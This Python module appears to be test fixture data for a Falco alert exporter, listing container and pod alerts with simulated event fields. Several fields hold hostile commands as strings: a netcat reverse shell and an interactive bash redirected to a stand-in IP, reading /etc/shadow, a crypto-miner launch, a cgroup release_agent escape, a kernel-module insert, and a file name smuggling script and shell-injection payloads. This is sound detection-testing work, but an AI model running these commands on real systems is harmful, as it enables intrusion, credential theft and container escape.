# ruff: noqa: S108 - paths that alerts name, opened by nobody
"""What happens in containers and pods."""

from __future__ import annotations

from collections.abc import Mapping
from datetime import UTC, datetime

from exporter.simulator.story_hosts import CONNECTION, HOST

REFERENCE_TIME_NS = int(datetime(2024, 10, 5, 18, 29, 39, tzinfo=UTC).timestamp()) * 10**9 + 273467556
_LAB, _NODE = "mini-debian-lab", "worker-2"
_GENERATOR = HOST | {
    "proc.name": "event-generator",
    "proc.exe": "event-generator",
    "proc.exepath": "/bin/event-generator",
    "proc.cmdline": "event-generator run syscall --loop",
    "proc.pname": "containerd-shim",
    "proc.pcmdline": "containerd-shim -namespace moby -id 7f4a1c09be52 -address /run/containerd/containerd.sock",
    "proc.aname[2]": "systemd",
    "evt.type": "openat",
    "container.id": "7f4a1c09be52",
    "container.name": "modest_brahmagupta",
    "container.image.repository": "falcosecurity/event-generator",
    "container.image.tag": "latest",
    "container.start_ts": str(REFERENCE_TIME_NS - 90 * 10**9),
}
_POD = HOST | {
    "evt.type": "execve",
    "proc.name": "bash",
    "proc.exepath": "/usr/bin/bash",
    "proc.cmdline": "bash",
    "proc.pname": "runc",
    "proc.pcmdline": "runc exec --tty shop-frontend",
    "proc.tty": "34816",
    "container.id": "c3d2a90f1b7e",
    "container.name": "frontend",
    "container.image.repository": "registry.example.com/shop/frontend",
    "container.image.tag": "2.14.1",
    "container.start_ts": str(REFERENCE_TIME_NS - 3600 * 10**9),
    "k8s.pod.name": "frontend-6d5b9c7f88-x2kqp",
    "k8s.ns.name": "shop",
}
_HOSTILE_NAME = (
    "/tmp/<script>alert(1)</script>`id`$(touch pwned)';--\"\x1b[31mred\x1b[0m\n# heading\r\n| a | b |\u202efdp.exe"
)

CONTAINER_STORY: tuple[tuple[str, str, Mapping[str, str]], ...] = (
    (
        "Clear Log Activities",
        _LAB,
        _GENERATOR | {"fd.name": "/tmp/falco-event-generator-syscall-ClearLogActivities-3215922156/syslog"},
    ),
    (
        "Terminal shell in container",
        _NODE,
        _POD,
    ),
    (
        "Read sensitive file untrusted",
        _NODE,
        _POD
        | {
            "evt.type": "openat",
            "fd.name": "/etc/shadow",
            "proc.name": "cat",
            "proc.exepath": "/usr/bin/cat",
            "proc.cmdline": "cat /etc/shadow",
            "proc.pname": "bash",
            "proc.aname[2]": "runc",
            "proc.aname[3]": "containerd-shim",
        },
    ),
    (
        "Drop and execute new binary in container",
        _NODE,
        _POD
        | {
            "proc.name": "xmrig",
            "proc.exe": "./xmrig",
            "proc.exepath": "/tmp/xmrig",
            "proc.cmdline": "xmrig -o pool.example.net:3333",
            "proc.cwd": "/tmp/",
            "proc.pname": "bash",
            "proc.sname": "frontend",
            "proc.exe_ino.ctime": str(REFERENCE_TIME_NS - 4 * 10**9),
            "proc.exe_ino.mtime": str(REFERENCE_TIME_NS - 4 * 10**9),
            "proc.exe_ino.ctime_duration_proc_start": "4000000000",
        },
    ),
    (
        "Launch Package Management Process in Container",
        _NODE,
        _POD | {"proc.name": "apt", "proc.exepath": "/usr/bin/apt", "proc.cmdline": "apt install -y nmap"},
    ),
    (
        "Contact K8S API Server From Container",
        _NODE,
        _POD
        | CONNECTION
        | {
            "fd.name": "10.0.3.17:48212->10.96.0.1:443",
            "fd.lport": "48212",
            "fd.rport": "443",
            "proc.name": "curl",
            "proc.exepath": "/usr/bin/curl",
            "proc.cmdline": "curl -sk https://10.96.0.1/api",
        },
    ),
    (
        "Redirect STDOUT/STDIN to Network Connection in Container",
        _NODE,
        _POD
        | CONNECTION
        | {
            "evt.type": "dup2",
            "fd.sip": "203.0.113.66",
            "fd.name": "10.0.3.17:40022->203.0.113.66:4444",
            "fd.lport": "40022",
            "fd.rport": "4444",
            "proc.cmdline": "bash -i",
        },
    ),
    (
        "Netcat Remote Code Execution in Container",
        _NODE,
        _POD | {"proc.name": "nc", "proc.exepath": "/usr/bin/nc", "proc.cmdline": "nc -e /bin/sh 203.0.113.66 4444"},
    ),
    (
        "Detect release_agent File Container Escapes",
        _NODE,
        _POD
        | {
            "evt.type": "openat",
            "fd.name": "/tmp/cgrp/release_agent",
            "thread.cap_effective": "CAP_DAC_OVERRIDE CAP_SYS_ADMIN",
            "proc.cmdline": "bash -c echo /cmd > /tmp/cgrp/release_agent",
        },
    ),
    (
        "Packet socket created in container",
        _NODE,
        _POD
        | {
            "evt.type": "socket",
            "evt.args": "domain=17(AF_PACKET) type=3 proto=768",
            "proc.name": "tcpdump",
            "proc.exepath": "/usr/bin/tcpdump",
            "proc.cmdline": "tcpdump -i eth0",
        },
    ),
    (
        "Linux Kernel Module Injection Detected",
        _NODE,
        _POD
        | {
            "evt.type": "init_module",
            "proc.name": "insmod",
            "proc.exepath": "/usr/sbin/insmod",
            "proc.cmdline": "insmod /tmp/rk.ko",
            "proc.args": "/tmp/rk.ko",
            "proc.pexepath": "/usr/bin/bash",
            "proc.aname[2]": "runc",
            "proc.aexepath[2]": "/usr/bin/runc",
        },
    ),
    (
        "Create Symlink Over Sensitive Files",
        _LAB,
        _GENERATOR
        | {
            "evt.type": "symlinkat",
            "evt.arg.target": "/etc",
            "evt.arg.linkpath": "/tmp/falco-event-generator-syscall-CreateSymlinkOverSensitiveFiles-880148/etc_link",
        },
    ),
    (
        "Suspicious file name",
        _NODE,
        _POD | {"evt.type": "openat", "fd.name": _HOSTILE_NAME, "proc.name": "bash"},
    ),
)
"""Rule, host and the values of its fields."""
